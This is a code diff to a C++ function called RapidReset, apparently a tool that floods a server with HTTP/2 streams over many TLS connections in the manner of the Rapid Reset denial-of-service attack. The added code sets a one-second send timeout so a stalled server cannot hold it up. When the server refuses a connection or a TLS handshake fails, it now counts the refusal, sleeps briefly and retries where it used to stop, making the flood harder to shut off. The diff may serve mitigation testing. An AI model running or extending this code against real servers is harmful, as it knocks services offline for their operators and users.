@@ -58,6 +58,10 @@ int Connect(const std::string& address, const std::string& from) {
   inet_pton(AF_INET, hp[0].c_str(), &dst.sin_addr);
   int one = 1;
   setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);
+  // A server that stops reading holds a write at most this long: the
+  // attacker then opens another connection.
+  const timeval stall{1, 0};
+  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &stall, sizeof stall);
   if (bind(fd, reinterpret_cast<sockaddr*>(&src), sizeof src) != 0 ||
       connect(fd, reinterpret_cast<sockaddr*>(&dst), sizeof dst) != 0) {
     close(fd);
@@ -144,13 +148,23 @@ RapidResetResult RapidReset(const std::string& address, const std::string& from,
   while (absl::Now() < end) {
     int fd = Connect(address, from);
     if (fd < 0) {
-      if (result.connections == 0) result.error = "cannot connect to " + address;
-      break;
+      if (result.connections == 0) {
+        result.error = "cannot connect to " + address;
+        break;
+      }
+      ++result.refused;  // the server refuses this address now: try again
+      absl::SleepFor(absl::Milliseconds(5));
+      continue;
     }
     Link link(fd, ctx);
     if (!link.ok()) {
-      result.error = "TLS handshake with " + address + " failed";
-      break;
+      if (result.connections == 0) {
+        result.error = "TLS handshake with " + address + " failed";
+        break;
+      }
+      ++result.refused;
+      absl::SleepFor(absl::Milliseconds(5));
+      continue;
     }
     ++result.connections;
     std::thread drain;
@@ -159,6 +173,7 @@ RapidResetResult RapidReset(const std::string& address, const std::string& from,
     Frame(&hello, 4, 0, 0, "");  // SETTINGS
     Frame(&hello, 4, 1, 0, "");  // ACK of the server's
     bool open = link.Write(hello);
+    if (!open) ++result.refused;
     uint32_t stream = 1;
     while (open && absl::Now() < end && stream < (1u << 31) - 2 * options.per_write) {
       std::string batch;
